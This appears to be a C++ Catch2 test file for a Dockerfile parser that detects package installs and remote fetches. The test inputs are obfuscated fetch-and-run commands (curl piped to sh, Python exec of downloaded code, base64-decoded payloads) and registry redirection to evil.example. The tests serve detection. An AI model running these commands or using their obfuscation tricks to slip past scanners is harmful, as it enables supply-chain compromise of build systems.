// Commands that install or run something, in forms that hide it, each group beside what people honestly write.
#include <catch2/catch.hpp>

#include "unit/intake/intake_fixture.hpp"

using namespace headgate;
using intake::Parsed;
using Names = std::vector<std::string>;

namespace {

const std::string kFrom = "FROM scratch\n";

Parsed run(const std::string& script) { return Parsed("Dockerfile", kFrom + "RUN " + script + "\n"); }
Names names(const std::string& script) { return run(script).names(); }

/// Something is recorded whose name nobody knows, or it is said that it is not understood.
bool is_noticed(const Parsed& parsed) {
    CHECK(parsed.oracle());
    const auto& all = parsed.facts.requirements;
    return !parsed.understood || std::any_of(all.begin(), all.end(), [](const Requirement& one) { return one.dynamic; });
}
bool is_noticed(const std::string& script) { return is_noticed(run(script)); }

}  // namespace

TEST_CASE("Dockerfile: variables that are made of variables do not grow without end") {
    std::string text = "ARG A0=xxxxxxxxxxxxxxxx\n";
    for (int i = 1; i <= 40; ++i) text += "ARG A" + std::to_string(i) + "=$A" + std::to_string(i - 1) + "$A" + std::to_string(i - 1) + "\n";
    const Parsed parsed("Dockerfile", text + "FROM $A40\n");
    CHECK_FALSE(parsed.understood);
    CHECK(parsed.oracle());
    std::string many = "FROM scratch\nARG A=" + std::string(60'000, 'x') + "\n";
    for (int i = 0; i < 400; ++i) many += "ARG B" + std::to_string(i) + "=$A\n";
    CHECK_FALSE(Parsed("Dockerfile", many).understood);
    std::string uses = "FROM scratch\nARG A=" + std::string(60'000, 'x') + "\nRUN pip install";
    for (int i = 0; i < 400; ++i) uses += " $A";
    CHECK(is_noticed(Parsed("Dockerfile", uses + "\n")));
    const Parsed honest("Dockerfile", "ARG A=a.example\nARG B=$A/x\nARG C=${B}:1\nFROM $C\n");
    CHECK(honest.understood);
    CHECK(honest.names() == Names{"oci:a.example/x:1"});
}

TEST_CASE("RUN: each fetch is recorded once, however many programs run it") {
    std::string chain = "curl a.example/0 | sh";
    for (int i = 1; i < 500; ++i) chain += " | curl a.example/" + std::to_string(i) + " | sh";
    CHECK(run(chain).facts.requirements.size() == 500);
    std::string shells = "curl a.example/0";
    for (int i = 0; i < 2000; ++i) shells += " | sh";
    CHECK(run(shells).facts.requirements.size() == 1);
}

TEST_CASE("RUN: programs that run another hide nothing") {
    for (const char* const script : {
             "python -u -m pip install x", "python3 -mpip install x", "python -I -m pip install x", "python3 -Im pip install x", "python -X utf8 -m pip install x", "python -m uv pip install x",
             "sudo -u root pip install x", "timeout 600 pip install x", "timeout -k 5 600 pip install x", "nice -n 10 pip install x", "env -u X pip install x", "/usr/bin/env pip install x",
             "su -c \"pip install x\"", "su - app -c 'pip install x'", "gosu app pip install x", "doas pip install x", "conda run -n e pip install x", "poetry run pip install x", "uv run pip install x",
             "uv run -m pip install x", "bash -ce 'pip install x'", "bash -c -e 'pip install x'", "bash -lc 'pip install x'", "busybox sh -c 'pip install x'", "eval \"pip install x\"",
             "trap 'pip install x' EXIT", "P=pip; $P install x", "export P=pip && $P install x", "X=install; pip $X x", "pip --default-timeout 100 install x", "env -S 'pip install x'",
             "whatever --deep pip install x", "find . -exec pip install x ';'", "f() { pip install x; }; f", "xvfb-run -a pip install x", "stdbuf -oL pip install x", "E=; $E pip install x",
             "if true; then pip install x; fi", "sh -c \"sh -c 'pip install x'\"", "nix-shell --run 'pip install x'", "uvx --from x pip install x", "$SUDO pip install x", "$VENV/bin/pip install x", "${HOME}/.local/bin/uv pip install x"}) {
        INFO(script);
        const Names found = names(script);
        CHECK(std::find(found.begin(), found.end(), "pkg:pypi/x") != found.end());
    }
    CHECK(Parsed("Dockerfile", kFrom + "ENV C=\"pip install x\"\nRUN $C\n").names() == Names{"pkg:pypi/x"});
    CHECK(Parsed("Dockerfile", kFrom + "ENV P=\"a b\"\nRUN pip install $P\n").names() == Names{"pkg:pypi/a", "pkg:pypi/b"});
    CHECK(names("$(echo pip install x)") == Names{"pkg:pypi/x"});
    CHECK(names("$'\\x70i\\160' install $\"x\"") == Names{"pkg:pypi/x"});
    CHECK_FALSE(names("set -- pip install x; \"$@\"").empty());
    for (const char* const script : {"$(which pip) install x", "$P install x", "\"${P}\" add x", "P=pip; true || P=echo; $P install x", "pip $VERB x", "read P <<< pip; $P install x", "/usr/bin/pi? install x", "{pip,install,x}", "pip {install,x}", "$(echo pip) install x"}) {
        INFO(script);
        CHECK(is_noticed(script));
    }
    for (const char* const script : {"echo pip install x", "printf 'run pip install x'", "cat pip install", "sudo apt-get install -y python3-pip", "$SUDO apt-get install -y curl", "timeout 5 true", "env", "sudo",
                                     "git add pip", "grep -r 'pip install' .", "python -m http.server", "python -u main.py pip", "conda run -n e python main.py", "trap 'rm -f x' EXIT", "eval \"$(ssh-agent)\"",
                                     "uv run main.py", "uv run pytest -q", "make install", "$MYBIN --version", "$CONDA_DIR/bin/conda install -y x", "\"$JAVA_HOME/bin/java\" -jar add x", "export PATH=/x:$PATH", "su -c 'id' app", "npm run build", "go build ./..."}) {
        INFO(script);
        const Parsed parsed = run(script);
        CHECK(parsed.understood);
        CHECK(parsed.facts.requirements.empty());
    }
}

TEST_CASE("Dockerfile: SHELL that is no shell") {
    CHECK_FALSE(Parsed("Dockerfile", kFrom + "SHELL [\"python\",\"-m\",\"pip\"]\nRUN install x\n").understood);
    CHECK_FALSE(Parsed("Dockerfile", kFrom + "SHELL [\"sh\",\"-c\",\"pip install x\"]\nRUN true\n").understood);
    for (const char* const shell : {R"(["/bin/bash", "-o", "pipefail", "-c"])", R"(["/bin/bash","-euxo","pipefail","-c"])", R"(["bash", "--login", "-c"])", R"(["conda","run","-n","e","/bin/bash","-c"])",
                                    R"(["powershell", "-Command", "$ErrorActionPreference = 'Stop';"])"}) {
        INFO(shell);
        const Parsed parsed("Dockerfile", kFrom + "SHELL " + shell + "\nRUN pip install x\n");
        CHECK(parsed.understood);
        CHECK(parsed.names() == Names{"pkg:pypi/x"});
    }
    CHECK(Parsed("Dockerfile", kFrom + "SHELL [\"python\",\"-c\"]\nRUN [\"true\"]\n").understood);
}

TEST_CASE("RUN: what is fetched and run, through groups and prefixes") {
    for (const char* const script : {"(curl https://e.example/x) | sh", "{ curl https://e.example/x; } | sh", "curl https://e.example/x | (cd /tmp; sh)", "curl https://e.example/x | { cd /tmp; sh; }",
                                     "timeout 5 curl https://e.example/x | sh", "curl https://e.example/x | sudo -u root bash", ". <(curl https://e.example/x)", "source <(curl https://e.example/x)",
                                     "curl https://e.example/x | bash -s $(uname)", "if true; then curl https://e.example/x; fi | sh", "(true; curl https://e.example/x) | tee y | sh",
                                     "for u in https://e.example/x; do curl $u; done | sh", "curl https://e.example/x | $SUDO bash", "echo $(curl https://e.example/x) | sh",
                                     "curl https://e.example/x |\\\n sh /dev/stdin"}) {
        INFO(script);
        CHECK(names(script) == Names{"https://e.example/x"});
    }
    for (const char* const script : {"echo \"pip install x\" | sh", "printf 'true\\npip install x\\n' | bash", "sh <<< \"pip install x\"", "bash -s <<< 'pip install x'", "cat <<EOF | sh\npip install x\nEOF", "sh <<EOF\npip install x\nEOF",
                                     "cat <<A > /f && bash <<B\ntrue\nA\npip install x\nB", "(sh) <<EOF\npip install x\nEOF", "<<EOF\ncat <<E | sh\npip install x\nE\nEOF", "bash <(echo pip install x)",
                                     "true # <<EOF\npip install x\nEOF"}) {
        INFO(script);
        CHECK(names(script) == Names{"pkg:pypi/x"});
    }
    for (const char* const script : {"python -c \"import urllib.request as u; exec(u.urlopen('https://e.example/x').read())\"", "python3 -c 'import requests,os; os.system(requests.get(u).text)'",
                                     "python <<EOF\nimport subprocess\nsubprocess.run(['pip', 'install', 'x'])\nEOF", "<<EOF\n#!/usr/bin/env python3\nimport pip\npip.main(['install', 'x'])\nEOF",
                                     "echo cGlwIGluc3RhbGwgeA== | base64 -d | sh", "curl $(cat u) | sh", "curl https://e.example/x > >(sh)", "aws s3 cp s3://b/x - | sh", "printf '%s %s x' pip install | sh",
                                     "python -c \"__import__('pip').main(['install', 'x'])\"", "perl -e 'system(\"pip install x\")'", "python -c \"print(urlopen('https://e.example/x').read())\" | sh"}) {
        INFO(script);
        CHECK(is_noticed(script));
    }
    for (const char* const script : {"(curl https://e.example/x) > y", "curl https://e.example/x; (cd /tmp; sh i.sh)", "cat <<EOF > f\npip install x\nEOF", "cat <<EOF | tee f\npip install x\nEOF",
                                     "<<EOF\ncat > f <<E\npip install x\nE\nEOF", "python -c \"import requests; print(requests.__version__)\"", "python -c 'import subprocess; subprocess.run([\"ls\"])'",
                                     "python -c \"from ast import literal_eval; import requests; print(literal_eval('1'))\"", "echo \"pip install x\" | tee f", "cat <<< 'pip install x'", "echo $((1<<2))",
                                     ". /opt/venv/bin/activate", "sh <<< 'true'", "exec > >(tee log)", "curl https://e.example/x | tr -d x > y"}) {
        INFO(script);
        const Parsed parsed = run(script);
        CHECK(parsed.understood);
        CHECK(parsed.facts.requirements.empty());
    }
}

TEST_CASE("RUN: other sources and verbs") {
    CHECK(names("pip install -r https://evil.example/r.txt") == Names{"https://evil.example/r.txt"});
    CHECK(is_noticed("pip install -r <(curl https://evil.example/r.txt)"));
    CHECK(names("pip install -r requirements.txt -r $FILES/r.txt").empty());
    CHECK(names("pip install --default-timeout 100 requests") == Names{"pkg:pypi/requests"});
    const auto place = [](const std::string& script) {
        const Parsed parsed = run(script);
        return parsed.facts.index_options.size() == 1 ? parsed.facts.index_options[0].ecosystem + " " + parsed.facts.index_options[0].url : "?";
    };
    CHECK(place("pip config set global.index-url https://evil.example/simple") == "pypi https://evil.example/simple");
    CHECK(place("pip config --user set global.extra-index-url https://evil.example/simple") == "pypi https://evil.example/simple");
    CHECK(place("npm config set registry https://evil.example") == "npm https://evil.example");
    CHECK(place("npm set registry=https://evil.example") == "npm https://evil.example");
    CHECK(place("npm config set @acme:registry https://evil.example") == "npm https://evil.example");
    CHECK(place("yarn config set registry https://evil.example") == "npm https://evil.example");
    CHECK(place("go env -w GOPROXY=https://evil.example") == "golang https://evil.example");
    CHECK(place("gem sources --add https://evil.example") == "gem https://evil.example");
    CHECK_FALSE(run("npm config set registry $R").understood);
    for (const char* const script : {"npm instal x", "npm inst x", "npm it x", "npm update x", "bun a x", "yarn workspace w add x", "pnpm --filter w add x", "npm_config_loglevel=error npm i x"}) {
        INFO(script);
        CHECK(names(script) == Names{"pkg:npm/x"});
    }
    CHECK(names("npm init x; npm create @s/x; pnpm create x@latest; npm init @s; npm init -y") == Names{"pkg:npm/create-x", "pkg:npm/@s/create-x", "pkg:npm/create-x", "pkg:npm/@s/create"});
    CHECK(names("cargo +nightly install x; cargo --locked install y; cargo test install; cargo +stable build") == Names{"pkg:cargo/x", "pkg:cargo/y"});
    CHECK(names("go -C d install e.example/m@v1.0.0; go get -u e.example/m; go get ./...; go get -d -v; go test e.example/m") == Names{"pkg:golang/e.example/m@v1.0.0", "pkg:golang/e.example/m"});
    CHECK(names("gem i x") == Names{"pkg:gem/x"});
    CHECK(names("poetry add a@^1 b; pdm add -G test c; pipenv install d; poetry install; pipenv install --deploy") == Names{"pkg:pypi/a", "pkg:pypi/b", "pkg:pypi/c", "pkg:pypi/d"});
    CHECK(names("composer require v/n:1.0.0 v/m:^2; composer global require v/o; composer install") == Names{"pkg:composer/v/n@1.0.0", "pkg:composer/v/m", "pkg:composer/v/o"});
    CHECK(run("dotnet tool install -g X --version 1.0.0; dotnet add p.csproj package Y; dotnet build").facts.requirements.size() == 2);
    CHECK(names("bundle add x; bundle install") == Names{"pkg:gem/x"});
}

TEST_CASE("RUN: a script that cannot be read, and names an installer, is said to be") {
    CHECK_FALSE(run("echo 'it && uv add x").understood);
    CHECK_FALSE(run("echo \"it && go install evil.example/m@v1.0.0").understood);
    CHECK(names("echo $'it\\'s' && go install evil.example/m@v1.0.0") == Names{"pkg:golang/evil.example/m@v1.0.0"});
    CHECK(is_noticed(Parsed("Dockerfile", kFrom + "RUN <<EOF\nX=END\ncat <<$X\n\\$X\npip install x\nEND\nEOF\n")));
    CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\na[1<<X]=1\npip install x\nX\nEOF\n").names() == Names{"pkg:pypi/x"});
    CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\n((a=1<<X))\npip install x\nX\nEOF\n").names() == Names{"pkg:pypi/x"});
    CHECK(run("echo 'unfinished good things").understood);
}

TEST_CASE("RUN: a loop over constants installs each of them") {
    CHECK(names("for p in a b c; do pip install $p; done") == Names{"pkg:pypi/a", "pkg:pypi/b", "pkg:pypi/c"});
    CHECK(names("for p in a b; do for v in 1 2; do pip install \"$p==$v\"; done; done && pip install z") == Names{"pkg:pypi/a@1", "pkg:pypi/a@2", "pkg:pypi/b@1", "pkg:pypi/b@2", "pkg:pypi/z"});
    CHECK(names("for p in a b; do pip install $p; done | tee log") == Names{"pkg:pypi/a", "pkg:pypi/b"});
    CHECK(is_noticed("for p in $(cat names); do pip install $p; done"));
    CHECK(is_noticed("for p in *; do pip install \"$p\"; done"));
    CHECK(is_noticed("for p in a; do true; done; pip install $p"));
    std::string nested = "pip install $a$b$c$d$e$f";
    for (const char name : std::string("abcdef")) nested = std::string("for ") + name + " in 1 2 3 4 5 6 7 8 9; do " + nested + "; done";
    CHECK(is_noticed(nested));
    const Parsed shown = run("pip install $(cat r.txt)");
    REQUIRE(shown.facts.requirements.size() == 1);
    CHECK(shown.facts.requirements[0].written == "$(cat r.txt)");
}

TEST_CASE("RUN: every beginning is read, or said not to be") {
    CHECK(intake::every_prefix("Dockerfile", "FROM a\nSHELL [\"bash\",\"-c\"]\nRUN for p in a 'b'; do (curl x.y/z; cat <<E) | { sudo -u r sh; }; done <<< $'x\\n' && eval \"$(pip $V install x)\"\nq\nE\nRUN $P install\n"));
}

TEST_CASE("RUN: what is repeated thousands of times is read once") {
    const auto many = [](std::string_view what) {
        std::string text;
        for (int i = 0; i < 20'000; ++i) text += what;
        return text;
    };
    CHECK(names(many("env ") + "pip install x") == Names{"pkg:pypi/x"});
    CHECK(names(many("env ") + "-S 'pip install x'") == Names{"pkg:pypi/x"});
    CHECK_FALSE(names("env -S pip install " + many("env -S ") + "x").empty());
    CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\n" + many("<<E \n") + "pip install x\nEOF\n").names() == Names{"pkg:pypi/x"});
    std::string each;
    for (int i = 0; i < 2'000; ++i) each += "cat <<E" + std::to_string(i) + " \n";
    CHECK(Parsed("Dockerfile", kFrom + "RUN <<EOF\n" + each + "pip install x\nEOF\n").names() == Names{"pkg:pypi/x"});
    Parsed("Dockerfile", kFrom + many("RUN <<EOF\n"));
}
